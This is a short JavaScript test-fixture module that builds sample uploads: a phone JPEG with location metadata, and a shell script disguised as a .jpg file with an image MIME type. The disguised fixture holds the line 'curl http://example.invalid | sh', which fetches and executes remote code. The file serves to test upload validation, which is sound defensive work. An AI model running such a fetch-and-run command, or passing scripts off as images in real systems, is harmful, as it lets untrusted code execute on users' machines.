// Files as phones and strangers send them.
import { readFileSync } from "node:fs";

const media = (name) => new URL(`../../crates/office/tests/media/${name}`, import.meta.url);

/** A phone's JPEG whose properties tell when and where it was taken. `nth` makes each one different. */
export function photo(nth = 0, name = "现场照片.jpg") {
  const jpeg = readFileSync(media("china_crop_gps.jpg"));
  // Bytes behind the end of the picture are kept in the original and shown by nobody.
  return { name, mimeType: "image/jpeg", buffer: Buffer.concat([jpeg, Buffer.from(`#${nth}`)]) };
}

/** A script that calls itself a picture. */
export function disguised() {
  return { name: "照片.jpg", mimeType: "image/jpeg", buffer: Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n") };
}
